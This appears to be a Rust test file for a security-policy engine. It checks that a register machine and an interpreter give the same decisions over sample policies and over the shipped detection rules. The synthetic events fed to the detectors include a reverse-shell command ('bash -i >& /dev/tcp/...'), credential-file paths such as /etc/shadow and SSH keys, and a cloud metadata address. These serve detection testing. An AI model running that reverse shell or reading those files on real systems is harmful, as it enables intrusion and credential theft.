//! The register machine and the interpreter decide alike: policies times inputs, and the shipped set.

use std::collections::BTreeSet;
use std::time::Duration;

use rules::{Cause, Engine, Evaluator, Kind, Limits, Outcome, Policies, Value};

const POLICIES: &[(&str, &str)] = &[
    (
        "strings",
        "deny contains sprintf(\"%s-%d\", [upper(input.s), input.n]) if startswith(input.s, \"a\")\nalert contains m if m := concat(\",\", split(input.s, \"b\"))",
    ),
    (
        "sets",
        "bad := {\"x\", \"abc\"}\ndeny contains \"in\" if input.s in bad\ndeny contains \"not in\" if not input.s in bad\nalert contains s if some s in bad & {input.s}",
    ),
    (
        "loops",
        "deny contains sprintf(\"%v\", [i]) if input.list[i] > 1\nalert contains \"every\" if every x in input.list { x > 0 }\nalert contains \"some\" if { some k, v in input.object; v != k }",
    ),
    (
        "numbers",
        "deny contains \"sum\" if sum(input.list) > 4\ndeny contains \"div\" if input.n / 2 == 1.5\nalert contains sprintf(\"%v\", [max(input.list)]) if true\nalert contains \"zero\" if 1 / (input.n - 3) > 0",
    ),
    (
        "functions",
        "f(x) := \"small\" if x < 2\nf(x) := \"big\" if x >= 2\ng(\"abc\") if true\nh(x) := y if { y := x * 2 } else := 7\ndeny contains f(input.n) if true\nalert contains \"g\" if g(input.s)\nalert contains sprintf(\"%v\", [h(input.n)]) if true",
    ),
    (
        "defaults",
        "default level := \"low\"\nlevel := \"high\" if input.n > 2\ndeny contains level if true\ndefault on := false\nalert contains \"off\" if not on",
    ),
    (
        "objects",
        "deny contains object.get(input.object, \"k\", \"none\") if true\nalert contains {\"msg\": \"m\", \"id\": input.s, \"severity\": \"low\"} if input.s != \"\"\nalert contains k if input.object[k] == 1",
    ),
    (
        "comprehensions",
        "names := {x | some x in input.list; x > 1}\ndeny contains sprintf(\"%d\", [count(names)]) if count(names) > 0\nalert contains sprintf(\"%v\", [{k: v | some k, v in input.object}]) if true\nalert contains \"array\" if [x | some x in input.list] == input.list",
    ),
    (
        "partial",
        "hits contains x if some x in input.list\nhits contains 9 if input.n > 2\ndeny contains sprintf(\"%v\", [hits]) if count(hits) > 0\nby_name[k] := v if some k, v in input.object\nalert contains sprintf(\"%v\", [by_name.k]) if true",
    ),
    (
        "patterns",
        "deny contains \"match\" if regex.match(`^a.c$`, input.s)\nalert contains \"glob\" if glob.match(\"a*\", [], input.s)\nalert contains \"cidr\" if net.cidr_contains(\"10.0.0.0/8\", input.ip)",
    ),
    (
        "undefined",
        "deny contains \"never\" if input.missing.deeper == 1\ndeny contains \"not\" if not input.missing\nalert contains \"type\" if input.n < input.s\nalert contains \"broken\" if to_number(input.s) > 0",
    ),
    (
        "errors",
        "deny contains input.n if true\nalert contains {\"msg\": \"x\", \"id\": input.list} if true\nallow contains \"ok\" if input.n == 7",
    ),
    (
        "unify",
        "deny contains x if [x, 2] = [input.s, input.list[1]]\nalert contains \"pair\" if {\"k\": v} = input.object\nalert contains sprintf(\"%v\", [v]) if {\"k\": v} = input.object",
    ),
    (
        "data",
        "deny contains x if { some x in data.lists.words; x == input.s }\nalert contains data.lists.names[input.n]",
    ),
    (
        "shared",
        "f(x) := concat(\"-\", [x, \"y\"])\ng(x) if startswith(f(x), \"a\")\ndeny contains f(input.s) if g(input.s)\ndeny contains \"two\" if { f(input.s) == \"abc-y\"; g(input.s) }\nalert contains \"three\" if { not g(input.s); count(f(input.s)) > 2 }\nalert contains f(upper(input.s)) if f(upper(input.s)) != \"X-y\"\nallow contains \"x\" if f(input.s) == \"x-y\"",
    ),
    ("v0", ""),
];

const INPUTS: &[&str] = &[
    r#"{"s":"abc","n":3,"list":[1,2,3],"object":{"k":1,"l":2},"ip":"10.1.2.3"}"#,
    r#"{"s":"x","n":1,"list":[],"object":{},"ip":"203.0.113.1"}"#,
    r#"{"s":"","n":7,"list":[5],"object":{"k":"v"},"ip":"::1"}"#,
    r#"{"s":"17","n":0,"list":["a",2,null],"object":{"k":[1]},"ip":"none"}"#,
    r#"{"n":2.5,"list":[[1],[1,2]],"object":{"k":{"k":1}}}"#,
    r#"{"s":4,"n":"three","list":"text","object":[1,2],"ip":null}"#,
    r"{}",
];

const DATA: &str = r#"{"lists": {"words": ["abc", "x", "17"], "names": ["zero", "one", "two", "three"]}}"#;

/// What is decided is compared, not how fast: on a busy machine a limit of time would come between.
const PATIENT: Limits = Limits { time: Duration::from_secs(10), instructions: 1_000_000, memory: 1 << 20 };

/// The same decisions. Where an operand has the wrong type, the interpreter fails the rule and the machine takes
/// the body as undefined, as OPA does; such a rule is left out of the comparison. Returns how many were compared.
fn compare(what: &str, machine: &Outcome, interpreter: &Outcome) -> usize {
    let failed: BTreeSet<u32> = interpreter.errors.iter().map(|error| error.rule).collect();
    for error in &machine.errors {
        assert!(failed.contains(&error.rule), "{what}: {error:?}");
    }
    let wrong_type = |error: &rules::EvalError| matches!(&error.cause, Cause::Runtime(text) if ["expects", "a member of", "known key", "is needed"].iter().any(|part| text.contains(part)));
    assert!(interpreter.errors.iter().all(wrong_type), "{what}: {:?}", interpreter.errors);
    let sound = |outcome: &Outcome| {
        let decisions = outcome.decisions.iter().filter(|decision| !failed.contains(&decision.rule));
        decisions.cloned().collect::<Vec<_>>()
    };
    assert_eq!(sound(machine), sound(interpreter), "{what}");
    assert_eq!(machine.allowed_by, interpreter.allowed_by, "{what}");
    sound(machine).len()
}

#[test]
fn both_engines_decide_alike() {
    let mut decided = 0;
    for (name, body) in POLICIES {
        let text = match *name {
            "v0" => "# rego: v0\npackage sentinel.v0\n\ndeny[msg] { input.list[_] == 2; msg := \"two\" }\ndeny[msg] { msg := input.s }\n".to_owned(),
            _ => format!("package sentinel.{name}\n\n{body}\n"),
        };
        let policies = Policies::from_texts(&[(name, &text)], DATA).unwrap_or_else(|errors| panic!("{errors}"));
        assert!(policies.rules().iter().all(|rule| rule.engine == Engine::Rvm), "{name}: {:#?}", policies.notices());
        let policies = policies.shared();
        let mut machine = Evaluator::new(policies.clone(), PATIENT);
        let mut interpreter = Evaluator::interpreted(policies, PATIENT);
        for input in INPUTS {
            let value = Value::from_json_str(input).unwrap();
            let outcome = machine.evaluate(Kind::Exec, &value);
            let other = interpreter.evaluate(Kind::Exec, &value);
            decided += compare(&format!("{name} on {input}"), &outcome, &other);
        }
    }
    assert!(decided > 50, "the policies must decide something, not {decided}");
}

#[test]
fn both_engines_run_the_shipped_set_alike() {
    let policies = Policies::shipped().unwrap().shared();
    let mut machine = Evaluator::new(policies.clone(), PATIENT);
    let mut interpreter = Evaluator::interpreted(policies, PATIENT);
    let programs = ["/usr/bin/bash", "/tmp/x", "/usr/bin/curl", "/usr/sbin/nginx", "/usr/bin/nc", "/memfd:a (deleted)"];
    let paths = ["/etc/shadow", "/root/.ssh/id_rsa", "/etc/cron.d/x", "/srv/data", "/root/.bash_history"];
    let mut decided = 0;
    for kind in Kind::ALL {
        for program in programs {
            for (index, path) in paths.iter().enumerate() {
                let input = Value::from_json_str(&format!(
                    r#"{{"event":{{"action":"{kind}"}},"process":{{"executable":"{program}","name":"x","args":["sh","-c","bash -i >& /dev/tcp/198.51.100.1/9"],"user":{{"id":"0"}},"parent":{{"executable":"/usr/sbin/nginx","args":["nginx"]}},"previous":{{"executable":"/usr/bin/nc"}},"ancestors":[{{"executable":"/usr/sbin/nginx"}}]}},"file":{{"path":"{path}","name":"{}","write":{}}},"destination":{{"ip":"169.254.169.254","port":4444}},"network":{{"transport":"tcp"}}}}"#,
                    path.rsplit('/').next().unwrap(),
                    index % 2 == 0,
                ))
                .unwrap();
                let outcome = machine.evaluate(kind, &input);
                let other = interpreter.evaluate(kind, &input);
                decided += compare(&format!("{kind} {program} {path}"), &outcome, &other);
            }
        }
    }
    assert!(decided > 100, "{decided}");
}
